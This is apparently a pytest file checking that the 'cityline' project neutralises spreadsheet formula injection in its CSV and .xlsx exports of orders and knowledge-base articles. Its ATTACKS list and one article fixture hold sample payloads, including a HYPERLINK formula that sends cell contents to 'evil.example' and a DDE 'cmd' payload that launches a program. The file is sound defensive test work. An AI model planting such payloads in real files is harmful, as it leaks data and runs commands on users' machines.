"""No spreadsheet cell cityline writes is run as a formula (``cityline.cells``): the rule, the
orders' CSV export and the knowledge base's CSV and .xlsx export (which still round-trips)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from cityline.cells import plain_cell, safe_cell, safe_row
from cityline.db import transaction
from cityline.knowledge.files import export_rows, import_records, read_records, write_rows
from cityline.knowledge.service import ArticleInput, publish_article, write_version
from tests.knowledge.conftest import NOW

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_becomes_text(text):
    assert safe_cell(text) == "'" + text
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [12, -3.5, "-12.5", "+8613800001234", "1e-3", "", None, "口罩=紧缺", "'=已转义"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_safe_row_keeps_types():
    assert safe_row(["=1", 2, None, "-", "-7"]) == ["'=1", 2, None, "'-", "-7"]


def test_the_orders_export_writes_no_formula(client):
    for text in ATTACKS[:4]:
        created = client.post("/api/orders", json={"text": text, "kind": "complaint", "category": "GEN.OTHER",
                                                   "urgency": "normal"})
        assert created.status_code == 201, created.text
    exported = client.get("/api/orders/export.csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert sorted(r["text"] for r in rows) == sorted("'" + t for t in ATTACKS[:4])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


@pytest.mark.parametrize("target", ["export.csv", "export.xlsx"])
def test_the_knowledge_export_writes_no_formula_and_reads_back_the_same(sessions, tmp_path, target):
    """A mined draft carries callers' words; an editor's answer may start with a Markdown list."""
    with transaction(sessions) as session:
        write_version(session, ArticleInput(external_id="KB-F-1", title="=HYPERLINK(\"http://evil.example\")",
                                            answer="- 第一步：登录\n- 第二步：申请",
                                            questions=["@SUM(A1)怎么办", "口罩哪里买"]),
                      actor="test", now=NOW, note="test")
        publish_article(session, "KB-F-1", actor="test", now=NOW, skip_review=True)
        rows = export_rows(session)
    write_rows(rows, tmp_path / target)
    if target.endswith(".csv"):
        cells = [c for row in csv.reader(io.StringIO((tmp_path / target).read_text(encoding="utf-8-sig")))
                 for c in row]
    else:
        book = load_workbook(tmp_path / target)
        cells = [c.value for row in book.active.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    assert not any(isinstance(c, str) and c.startswith(("=", "+", "-", "@")) for c in cells), cells
    with transaction(sessions) as session:
        report = import_records(session, read_records(tmp_path / target), actor="test", now=NOW)
    assert report.bad == [] and report.unchanged == 1, report
